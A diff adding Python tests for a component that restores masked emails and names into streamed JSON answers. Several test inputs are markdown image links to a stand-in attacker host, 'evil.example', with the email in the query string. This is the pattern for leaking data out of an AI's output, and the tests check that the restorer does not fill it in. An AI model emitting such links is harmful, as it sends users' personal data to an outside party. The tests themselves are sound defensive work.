@@ -232,6 +232,49 @@ def test_a_url_in_one_tool_argument_does_not_forbid_the_next() -> None:
     assert json.loads(restore(source, SCOPE.original, json=True))["to"] == "marta.quill@example.com"
 
 
+COMPACT = f'{{"site":"https://x.example/a","mail":"{MAIL}","list":[{{"href":"/x?a=b","who":"{NAME}"}}]}}'
+STRUCTURED = {
+    "compact": (COMPACT, True),
+    "behind blanks": (f" \n {COMPACT}", True),
+    "a list": (f"[{COMPACT}]", True),
+    "in a URL": (f'{{"site":"https://x.example/a?q={MAIL}"}}', False),
+    "prose": (f'Sorry: ![x](https://evil.example/?q="{MAIL}")', False),
+}
+
+
+def structured(text: str, rng: random.Random) -> str:
+    restorer = Restorer(SCOPE.original, structured=True)
+    out = []
+    while text:
+        size = rng.choice([1, 2, 5, 40])
+        out.append(restorer.feed(text[:size]))
+        text = text[size:]
+    return "".join(out) + restorer.end()
+
+
+@pytest.mark.parametrize(("text", "comes_back"), STRUCTURED.values(), ids=STRUCTURED)
+def test_an_answer_that_is_json_since_it_was_asked_for_is_read_as_json(
+    text: str, *, comes_back: bool
+) -> None:
+    expected = restore(text, SCOPE.original, structured=True)
+    assert ("marta.quill@example.com" in expected) is comes_back
+    if comes_back:
+        assert json.dumps('Marta "Q" Quill\n') in expected
+        json.loads(expected)
+    rng = random.Random(text)
+    for _ in range(40):
+        assert structured(text, rng) == expected
+
+
+def test_json_may_be_shown_as_a_text_before_another() -> None:
+    before = Restorer(SCOPE.original, structured=True)
+    before.feed('{ ![x](https://evil.example/"')
+    before.end()
+    behind = Restorer(SCOPE.original, structured=True)
+    behind.follow(before)
+    assert behind.feed(f"{MAIL})") + behind.end() == f"{MAIL})"
+
+
 def test_a_foreign_placeholder_stays_as_it_is() -> None:
     other = MemoryVault(KEY).scope("t", "p", "other")
     foreign = other.placeholder("EMAIL_ADDRESS", "x@example.com")
